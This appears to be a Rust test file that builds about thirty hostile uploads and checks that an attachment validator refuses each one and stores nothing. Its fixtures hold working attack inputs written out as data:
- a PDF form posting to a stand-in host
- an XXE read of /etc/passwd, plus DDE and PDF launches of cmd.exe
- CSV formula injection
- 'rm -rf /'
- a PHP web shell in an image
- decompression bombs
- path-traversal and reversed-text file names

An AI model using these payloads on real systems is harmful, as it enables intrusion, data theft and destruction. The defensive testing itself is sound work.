//! Thirty kinds of hostile files, by name, made on the spot: each is refused before anything of it is kept.
use testkit::World;

use super::{attach, entries, made};
use crate::drafting::{ENDORSER, complete_draft};

/// What it is, what it is called, its bytes, and the problem that must be named.
type Hostile = (&'static str, &'static str, Vec<u8>, &'static str);

fn joined(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// Archives whose parts would unpack to four times what is allowed.
fn bomb() -> Vec<u8> {
    let large = vec![b' '; 90 * 1024 * 1024];
    made::office(
        "xlsx",
        "",
        &[
            ("xl/a.xml", &large),
            ("xl/b.xml", &large),
            ("xl/c.xml", &large),
        ],
    )
}

/// An archive with one part that states a false size.
fn lying_bomb() -> Vec<u8> {
    let mut bytes = bomb();
    let mark = [b'P', b'K', 1, 2];
    let places: Vec<usize> = bytes
        .windows(4)
        .enumerate()
        .filter_map(|(at, window)| (window == mark).then_some(at))
        .collect();
    for at in places {
        bytes[at + 24..at + 28].copy_from_slice(&100_u32.to_le_bytes());
    }
    bytes
}

fn encrypted_archive() -> Vec<u8> {
    let mut bytes = made::office("docx", "", &[]);
    let marks: [([u8; 4], usize); 2] = [([b'P', b'K', 3, 4], 6), ([b'P', b'K', 1, 2], 8)];
    for (mark, flag) in marks {
        let found: Vec<usize> = bytes
            .windows(4)
            .enumerate()
            .filter_map(|(at, window)| (window == mark).then_some(at))
            .collect();
        for at in found {
            bytes[at + flag] |= 1;
        }
    }
    bytes
}

fn encrypted_workbook() -> Vec<u8> {
    let mut bytes = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    bytes.extend([0; 600]);
    bytes.extend("EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

fn old_document() -> Vec<u8> {
    let mut bytes = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    bytes.extend([0; 600]);
    bytes
}

#[expect(clippy::too_many_lines, reason = "a table")]
fn pdfs() -> Vec<Hostile> {
    let action = |words: &str| vec![format!("<< /Type /Action {words} >>")];
    let script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    let packed = made::deflated(b"7 0 << /S /JavaScript /JS (x) >>");
    let pages = vec![b' '; 300 * 1024 * 1024];
    vec![
        (
            "a PDF with a script",
            "a.pdf",
            made::pdf_with(&[script.to_owned()], ""),
            "file_has_scripts",
        ),
        (
            "a PDF with a script whose name is written in numbers",
            "a.pdf",
            made::pdf_with(&["<< /S /J#61vaScript /#4aS (x) >>".to_owned()], ""),
            "file_has_scripts",
        ),
        (
            "a PDF with a script in packed objects",
            "a.pdf",
            made::pdf_with_stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &packed),
            "file_has_scripts",
        ),
        (
            "a PDF with objects packed twice",
            "a.pdf",
            made::pdf_with_stream(
                "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]",
                b"78da>",
            ),
            "file_has_hidden",
        ),
        (
            "a PDF that starts a program",
            "a.pdf",
            made::pdf_with(&action("/S /Launch /F (cmd.exe)"), ""),
            "file_has_launch",
        ),
        (
            "a PDF with a file inside",
            "a.pdf",
            made::pdf_with_stream("/Type /EmbeddedFile", b"MZ"),
            "file_has_embedded",
        ),
        (
            "a PDF form that sends itself",
            "a.pdf",
            made::pdf_with(&action("/S /SubmitForm /F (http://evil.example)"), ""),
            "file_has_forms",
        ),
        (
            "a PDF behind a password",
            "a.pdf",
            made::pdf_with(&[], "/Encrypt 5 0 R"),
            "file_locked",
        ),
        (
            "a PDF bomb",
            "a.pdf",
            made::pdf_with_stream("/Filter /FlateDecode", &made::deflated(&pages)),
            "file_unpacks_over_limit",
        ),
        (
            "a PDF that is an archive as well",
            "a.pdf",
            joined(&[
                &made::pdf("x"),
                &made::archive(&[("a.exe", b"MZ")]),
                b"%%EOF\n",
            ]),
            "file_two_in_one",
        ),
        (
            "a PDF that is a page as well",
            "a.pdf",
            joined(&[
                b"%PDF-1.7\n<html><script>alert(1)</script>\n",
                &made::pdf("x"),
            ]),
            "file_two_in_one",
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "a table")]
fn offices() -> Vec<Hostile> {
    let template = made::external("attachedTemplate");
    let entities = b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";
    let fields = "<p><instrText>DD</instrText></p><p><instrText>DDE</instrText><instrText>AUTO c:\\cmd.exe</instrText></p>";
    vec![
        (
            "a document with macros",
            "a.docx",
            made::office("docx", "", &[("word/vbaProject.bin", b"x")]),
            "file_has_macros",
        ),
        (
            "a workbook with macro sheets",
            "a.xlsx",
            made::office("xlsx", "", &[("xl/macrosheets/sheet1.xml", b"<a/>")]),
            "file_has_macros",
        ),
        (
            "a document that loads its template from elsewhere",
            "a.docx",
            made::office(
                "docx",
                "",
                &[("word/_rels/settings.xml.rels", template.as_bytes())],
            ),
            "file_has_external",
        ),
        (
            "a document that reads a file by an entity",
            "a.docx",
            made::office("docx", "", &[("word/a.xml", entities)]),
            "file_has_external",
        ),
        (
            "a document with a program inside",
            "a.docx",
            made::office("docx", "", &[("word/embeddings/oleObject1.bin", b"MZ")]),
            "file_has_embedded",
        ),
        (
            "a document with a field that starts a program",
            "a.docx",
            made::office("docx", fields, &[]),
            "file_has_commands",
        ),
        (
            "a document with the test virus in a part",
            "a.docx",
            made::office("docx", "", &[("word/media/image1.png", &made::eicar())]),
            "file_infected",
        ),
        (
            "an archive that unpacks outside its folder",
            "a.docx",
            made::office("docx", "", &[("word/../../../etc/cron.d/x.xml", b"<a/>")]),
            "file_parts_outside",
        ),
        (
            "a workbook that unpacks without end",
            "a.xlsx",
            bomb(),
            "file_unpacks_over_limit",
        ),
        (
            "the same that states another size",
            "a.xlsx",
            lying_bomb(),
            "file_",
        ),
        (
            "an encrypted archive",
            "a.docx",
            encrypted_archive(),
            "file_locked",
        ),
        (
            "an encrypted workbook",
            "a.xlsx",
            encrypted_workbook(),
            "file_locked",
        ),
        (
            "a document of before 2007",
            "a.docx",
            old_document(),
            "file_type_refused",
        ),
        (
            "any other archive",
            "a.docx",
            made::archive(&[("a.txt", b"x")]),
            "file_type_refused",
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "a table")]
fn others() -> Vec<Hostile> {
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
    vec![
        (
            "an SVG picture with a script",
            "a.png",
            svg.to_vec(),
            "file_markup",
        ),
        (
            "a page called a text",
            "a.txt",
            b"Minutes\n<script>alert(1)</script>".to_vec(),
            "file_markup",
        ),
        ("the test virus", "a.txt", made::eicar(), "file_infected"),
        (
            "a program called a PDF",
            "a.pdf",
            joined(&[b"MZ\x90\0", &[0; 200]]),
            "file_type_refused",
        ),
        (
            "a table with a command",
            "a.csv",
            b"name,price\nx,\"=cmd|' /C calc'!A0\"\n".to_vec(),
            "file_formulas",
        ),
        (
            "a shell script called a text",
            "a.txt",
            b"#!/bin/sh\nrm -rf /\n".to_vec(),
            "file_type_refused",
        ),
        (
            "a picture with an archive behind it",
            "a.png",
            joined(&[&made::png(9, 9), &made::archive(&[("a", b"x")])]),
            "file_two_in_one",
        ),
        (
            "a picture with a script in its comment",
            "a.jpg",
            made::jpeg(b"<?php system($_GET[0]); ?>"),
            "file_two_in_one",
        ),
        (
            "a picture of ten thousand million dots",
            "a.png",
            made::png(100_000, 100_000),
            "file_unpacks_over_limit",
        ),
        (
            "a picture called a PDF",
            "a.pdf",
            made::png(9, 9),
            "file_name_other_type",
        ),
        (
            "a name that leads out of its folder",
            "../../etc/passwd.pdf",
            made::pdf("x"),
            "file_name_letters",
        ),
        (
            "a name with two endings",
            "quotation.exe.pdf",
            made::pdf("x"),
            "file_name_double_ending",
        ),
        (
            "a name that reads backwards",
            "quotation\u{202e}fdp.exe.pdf",
            made::pdf("x"),
            "file_name_letters",
        ),
        (
            "a PDF that is cut off",
            "a.pdf",
            made::pdf("x")[..60].to_vec(),
            "file_damaged",
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn trust_21_thirty_hostile_kinds_are_refused_and_nothing_of_them_is_kept() {
    let world = World::seeded().await;
    let actor = world.actor(ENDORSER).await;
    let application = complete_draft(&world, &actor).await;
    let client = world.graphql(Some(ENDORSER)).await;
    let all: Vec<Hostile> = [pdfs(), offices(), others()].concat();
    assert!(all.len() >= 30, "only {} kinds", all.len());
    let mut refused = 0;
    for (what, name, bytes, code) in &all {
        assert!(
            bytes.len() < 2 * 1024 * 1024,
            "{what} has {} bytes",
            bytes.len()
        );
        match attach(&client, application, name, bytes).await {
            Ok(_) => panic!("{what} was taken"),
            Err(codes) => {
                assert!(
                    codes.iter().any(|found| found.starts_with(code)),
                    "{what}: {codes:?}"
                );
                for found in codes {
                    assert!(
                        attachments::CODES.contains(&found.as_str()),
                        "{what}: {found}"
                    );
                }
                refused += 1;
            }
        }
    }
    let rows: i64 = sqlx::query_scalar("select count(*) from tenant.files")
        .fetch_one(world.sql())
        .await
        .unwrap();
    assert_eq!(rows, 0);
    assert_eq!(std::fs::read_dir(world.files_folder()).unwrap().count(), 0);
    // Those that were announced and sent are on record; bad names are refused before anything is sent.
    let sent = entries(&world, "file_refuse").await;
    assert_eq!(usize::try_from(sent).unwrap(), refused - 3);
    println!(
        "trust-21 pass {refused} of {} hostile kinds refused, 0 kept",
        all.len()
    );
}
